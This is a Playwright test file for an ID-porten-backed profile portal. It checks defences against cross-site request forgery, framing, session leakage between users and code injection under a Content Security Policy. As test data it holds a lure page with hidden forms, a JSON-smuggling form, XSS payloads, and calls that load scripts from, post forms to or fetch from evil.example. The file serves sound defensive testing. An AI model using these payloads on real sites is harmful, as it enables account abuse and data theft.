import type { BrowserContext } from "@playwright/test";
import { fetchKept } from "../canary/fetch-kept.ts";
import { openForeignSite } from "./foreign-site.ts";
import { idporten } from "../journeys/pages/idporten.ts";
import { landing } from "../journeys/pages/landing.ts";
import { minProfil, openMinProfil } from "../journeys/pages/min-profil.ts";
import { userMenu } from "../journeys/pages/user-menu.ts";
import { fieldIn, personIn } from "../journeys/people.ts";
import { expect, test, type Portal } from "../journeys/portal.ts";

const KARIS_NUMBER = "912 34 567";

/** Leaves the browser with the portal's cookies alone, as when the person has logged out at ID-porten from elsewhere. */
async function endIdportensSession(context: BrowserContext, { origin }: Portal): Promise<void> {
  const ours = (await context.cookies(origin)).filter(({ name }) => name.startsWith("__Host-Http-"));
  await context.clearCookies();
  await context.addCookies(ours);
}

test("a page of another site can neither change nor read anything in the name of who is logged in (CF8)", async ({
  page,
  context,
  portal,
  announceFault,
}) => {
  announceFault(/./);
  const person = personIn(portal.world, "ulik");
  await openMinProfil(page, person);
  const before = fieldIn(portal.world.school, person, "mobile");
  const foreign = await openForeignSite();
  try {
    const { origin } = portal;
    foreign.show(`<!doctype html><title>Vinn en premie</title>
      <iframe name="hidden"></iframe>
      <form method="post" action="${origin}/api/profile/refresh" target="hidden" enctype="text/plain">
        <input name='{"a":"' value='"}'></form>
      <form method="post" action="${origin}/auth/logout" target="hidden"></form>
      <img src="${origin}/api/profile"><script src="${origin}/api/profile"></script>`);
    const attacker = await context.newPage();
    await attacker.goto(foreign.origin);
    const attempts = await attacker.evaluate(`(async () => {
      for (const form of document.forms) form.submit();
      const send = (path, init) => fetch(${JSON.stringify(origin)} + path, { credentials: "include", ...init })
        .then((answer) => answer.text()).catch(() => "unreadable");
      const json = { method: "POST", body: "{}", headers: { "Content-Type": "application/json", "X-Portal": "1" } };
      const read = [
        await send("/api/profile"), await send("/api/session"), await send("/api/profile/refresh", json),
        await send("/auth/logout", json),
        await send("/api/profile/refresh", { method: "POST", mode: "no-cors", body: "{}" }),
        await send("/auth/logout", { method: "POST", mode: "no-cors" }),
      ];
      return { read, pictures: [...document.images].map((image) => image.naturalWidth) };
    })()`);
    expect(attempts).toEqual({ read: Array.from({ length: 6 }, () => "unreadable"), pictures: [0] });
    await page.reload();
    await expect(minProfil(page).heading).toBeVisible();
    expect(fieldIn(portal.world.school, person, "mobile")).toEqual(before);
  } finally {
    await foreign.close();
  }
});

test("nobody may frame the page; ID-porten's logout page may frame the one address for that (LO8)", async ({
  page,
  portal,
  announceFault,
}) => {
  announceFault(/frame|status of 400/i);
  const framed: number[] = [];
  page.on("response", (response) => {
    if (response.url().includes("/auth/frontchannel-logout?")) framed.push(response.status());
  });
  const person = personIn(portal.world, "kari");
  await openMinProfil(page, person);
  const loaded = page.waitForEvent("requestfinished", (request) =>
    request.url().includes("/auth/frontchannel-logout?"),
  );
  await userMenu(page, person).logOut();
  await loaded;
  await expect(page).toHaveURL(/\/utlogget/);
  expect(framed).toEqual([200]);

  const foreign = await openForeignSite();
  try {
    const { origin } = portal;
    const addresses = ["/", "/min-profil", "/auth/frontchannel-logout?iss=x&sid=y", "/auth/login"];
    foreign.show(addresses.map((path) => `<iframe src="${origin}${path}"></iframe>`).join(""));
    await page.goto(foreign.origin);
    const shown = page
      .frames()
      .slice(1)
      .map((frame) => frame.url());
    expect(shown).toEqual(addresses.map(() => "chrome-error://chromewebdata/"));
  } finally {
    await foreign.close();
  }
});

test("who logs in after another on the same browser sees nothing of hers, and ends her session (SN3)", async ({
  page,
  context,
  portal,
  announceFault,
}) => {
  // One step back is ID-porten's page of a log-in that is over.
  announceFault(/status of 40[01]/);
  const [first, second] = [personIn(portal.world, "kari"), personIn(portal.world, "uten-epost")];
  await openMinProfil(page, first);
  await expect(page.getByText(KARIS_NUMBER)).toBeVisible();
  const hers = (await context.cookies(portal.origin)).find(({ name }) => name === "__Host-Http-sid");
  await endIdportensSession(context, portal);

  await page.goto("/auth/login?returnTo=/min-profil");
  await idporten(page).choose(second);
  await expect(userMenu(page, second).toggle).toBeVisible();
  await expect(page.getByText(KARIS_NUMBER)).toHaveCount(0);
  await page.goBack();
  await page.goBack();
  await expect(page.getByText(KARIS_NUMBER)).toHaveCount(0);

  const old = await fetchKept(`${portal.origin}/api/profile`, {
    headers: { "X-Portal": "1", cookie: `__Host-Http-sid=${hers?.value ?? ""}` },
  });
  expect(old.status).toBe(401);
});

test("two tabs can log in at once, come back in the other order, and land where each was going (OI3)", async ({
  page,
  context,
  portal,
}) => {
  const person = personIn(portal.world, "kari");
  const other = await context.newPage();
  await page.goto("/auth/login?returnTo=/min-profil");
  await other.goto("/auth/login?returnTo=/hjelp");
  for (const tab of [page, other]) await expect(idporten(tab).heading).toBeVisible();
  await idporten(other).choose(person);
  await expect(other).toHaveURL("/hjelp");
  await idporten(page).choose(person);
  await expect(page).toHaveURL("/min-profil");
  await expect(userMenu(page, person).toggle).toBeVisible();
});

test("a log-in that fails again and again ends on a page each time, and never begins by itself (OI16, ER6)", async ({
  page,
  portal,
  announceFault,
}) => {
  announceFault(/status of 400/);
  const { idporten: provider } = portal.world;
  const begun: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).pathname === "/auth/login") begun.push(request.url());
  });
  provider.faults.set({ callback: { iss: "https://idporten.example" } });
  await landing(page).open();
  for (const attempt of [1, 2, 3, 4]) {
    await landing(page).login.click();
    if (attempt === 1) await idporten(page).choose(personIn(portal.world, "kari"));
    await expect(page.getByRole("heading", { level: 1, name: "Innloggingen ble avvist" })).toBeVisible();
    await expect(page.getByText(/^Referanse: [\da-f-]{36}$/)).toBeVisible();
    expect(begun).toHaveLength(attempt);
  }
  provider.faults.clear();
});

test("markup and code that somebody gets into the page is neither drawn nor run, and the violation is told (HD5, HD6)", async ({
  page,
  portal,
  announceFault,
}) => {
  announceFault(/Content Security Policy|TrustedHTML|TrustedScript|unsafe-eval|Trusted/);
  await openMinProfil(page, personIn(portal.world, "kari"));
  // Text, as it is run by the browser and not by us.
  const attempts = await page.evaluate(`(async () => {
    const told = [];
    document.addEventListener("securitypolicyviolation", (violation) => told.push(violation.effectiveDirective));
    window.ran = [];
    const attempt = async (name, act) => {
      try { await act(); return name + ": went on"; } catch (error) { return name + ": " + error.name; }
    };
    const element = (tag, members) => document.body.append(Object.assign(document.createElement(tag), members));
    const outcomes = [
      await attempt("innerHTML", () => { document.body.innerHTML = "<img src=x onerror='ran.push(1)'>"; }),
      await attempt("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")),
      await attempt("document.write", () => document.write("<script>ran.push(2)</script>")),
      await attempt("script text", () => element("script", { text: "ran.push(3)" })),
      await attempt("script address", () => element("script", { src: "https://evil.example/a.js" })),
      await attempt("frame document", () => element("iframe", { srcdoc: "<script>parent.ran.push(4)</script>" })),
      // The tool that runs this text may evaluate more; whatever comes out of it later may not.
      await attempt("eval", () => new Promise((done, fail) => setTimeout(() => {
        try { done((0, eval)("ran.push(5)")); } catch (error) { fail(error); }
      }))),
      await attempt("timer text", () => { setTimeout("ran.push(6)"); }),
      await attempt("handler attribute", () => {
        document.body.setAttribute("onclick", "ran.push(7)");
        document.body.click();
      }),
      await attempt("foreign form", () => {
        const form = Object.assign(document.createElement("form"), { action: "https://evil.example/", method: "post" });
        document.body.append(form);
        form.submit();
      }),
      await attempt("foreign call", () => fetch("https://evil.example/", { mode: "no-cors" })),
      await attempt("foreign base", () => element("base", { href: "https://evil.example/" })),
      await attempt("policy of one's own", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
    ];
    while (!told.includes("form-action")) await new Promise((resolve) => setTimeout(resolve, 10));
    return { outcomes, ran: window.ran, told: [...new Set(told)].sort(), base: document.baseURI };
  })()`);
  expect(attempts).toEqual({
    outcomes: [
      "innerHTML: TypeError",
      "insertAdjacentHTML: TypeError",
      "document.write: TypeError",
      "script text: TypeError",
      "script address: TypeError",
      "frame document: TypeError",
      "eval: EvalError",
      "timer text: TypeError",
      "handler attribute: TypeError",
      "foreign form: went on",
      "foreign call: TypeError",
      "foreign base: went on",
      "policy of one's own: TypeError",
    ],
    ran: [],
    told: [
      "base-uri",
      "connect-src",
      "form-action",
      "require-trusted-types-for",

      "trusted-types",
    ],
    base: `${portal.origin}/min-profil`,
  });
});
